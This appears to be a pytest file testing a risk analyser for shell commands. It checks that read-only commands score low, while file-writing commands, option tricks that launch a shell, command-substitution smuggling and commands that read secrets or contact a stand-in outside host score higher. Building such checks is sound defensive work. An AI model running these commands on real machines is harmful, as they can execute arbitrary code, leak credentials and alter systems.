"""Commands on somebody's machine: what leaves a trace there or starts something is no looking."""

from __future__ import annotations

import pytest

from code_safety.analysis import analyse
from code_safety.findings import Severity
from hitl_contract.action_operations import ShellCommand

_CHANGES = [
    ("tee", "Makefile"),
    ("sed", "-i", "s/a/b/", "src/main.py"),
    ("sed", "w copy", "notes.txt"),
    ("cp", "mine.py", "setup.py"),
    ("sort", "-o", "package.json", "other.json"),
    ("find", ".", "-maxdepth", "0", "-fprintf", "Makefile", "all:"),
    ("find", ".", "-fls", "list"),
    ("uniq", "a", "b"),
    ("xxd", "notes.hex", "Makefile"),
    ("date", "010112002030"),
    ("python3", "-c", "open('Makefile', 'w').write('x')"),
    ("python3", "-m", "json.tool", "a.json", "b.json"),
    ("node", "-e", "require('fs').writeFileSync('Makefile', 'x')"),
    ("bash", "-c", "echo x > Makefile"),
    ("git", "merge", "theirs"),
    ("git", "config", "user.name", "Ada"),
    ("less", "-oMakefile", "notes.txt"),
    ("ruff", "check", "-oMakefile", "."),
    ("psql", "-o", "Makefile", "-c", "select 1"),
    ("pip", "list", "--log", "Makefile"),
    ("go", "env", "-w", "GOFLAGS=-mod=mod"),
    ("kubectl", "cluster-info", "dump", "--output-directory=out"),
    ("terraform", "providers", "lock"),
    ("ip", "addr", "flush", "dev", "eth0"),
    ("ss", "-tK"),
]
_STARTS = [
    ("rg", "--hostname-bin", "./mine", "x"),
    ("fd", "-Xrm"),
    ("man", "-Hsh", "ls"),
    ("rpm", "-q", "--pipe", "sh", "x"),
    ("go", "list", "-toolexec", "sh", "./..."),
    ("go", "list", "--toolexec=sh", "./..."),
    ("cargo", "metadata", "--config", "build.rustc-wrapper='sh'"),
    ("git", "grep", "--open=sh", "x"),
    ("git", "diff", "--ext-d"),
    ("git", "-c", "trailer.x.command=sh", "log"),
    ("git", "--config-env=core.pager=SHELL", "log"),
    ("nm", "--plugin=./mine.so", "a.o"),
    ("pygmentize", "-x", "-l", "mine.py", "notes.txt"),
    ("cloc", "--extract-with=sh", "a.tar"),
    ("sqlite3", "-init", "mine", "a.db", "select 1"),
    ("test", "-v", "a[$(id)]"),
    ("printf", "-v", "a[$(id)]", "x"),
]
_TELLS = [
    ("kubectl", "get", "pods", "-shttps://other.example"),
    ("kubectl", "get", "pods", "-As", "https://other.example"),
    ("helm", "list", "--kube-apiserver", "https://other.example"),
    ("docker", "ps", "-Htcp://other.example"),
    ("pip", "index", "versions", "what-i-know", "--index-url", "https://other.example"),
    ("ps", "auxe"),
    ("cat", "tls.key"),
    ("cat", "terraform.tfstate"),
    ("git", "show", "main:config/prod-credentials.yml"),
]
_LOOKS = [
    ("ls", "-la"),
    ("git", "status"),
    ("git", "-C", "lib", "log", "--oneline"),
    ("git", "-c", "color.ui=never", "diff", "--text"),
    ("git", "config", "--get", "user.name"),
    ("sed", "-n", "120,180p", "src/server.ts"),
    ("find", ".", "-name", "*.py"),
    ("bash", "-c", "git status && ls"),
    ("kubectl", "get", "pods", "-n", "shop", "-owide"),
    ("kubectl", "get", "pods", "-ojson"),
    ("date", "-r", "notes.txt"),
    ("date", "+%Y%m%d"),
    ("ps", "aux"),
    ("ps", "-ef"),
    ("xxd", "-l", "64", "notes.bin"),
    ("pip", "list"),
    ("go", "list", "-m", "all"),
    ("ip", "addr", "show"),
    ("test", "-f", "notes.txt"),
    ("python3", "-m", "json.tool", "a.json"),
]


@pytest.mark.parametrize("argv", [*_CHANGES, *_STARTS, *_TELLS], ids=" ".join)
def test_a_command_that_does_more_than_look_is_not_of_low_risk(argv: tuple[str, ...]) -> None:
    assert analyse(ShellCommand(argv=argv)).level.rank >= Severity.MEDIUM.rank


@pytest.mark.parametrize("argv", _LOOKS, ids=" ".join)
def test_a_command_that_only_looks_is_of_low_risk(argv: tuple[str, ...]) -> None:
    analysis = analyse(ShellCommand(argv=argv))

    assert (analysis.level, analysis.complete) == (Severity.LOW, True), analysis.findings
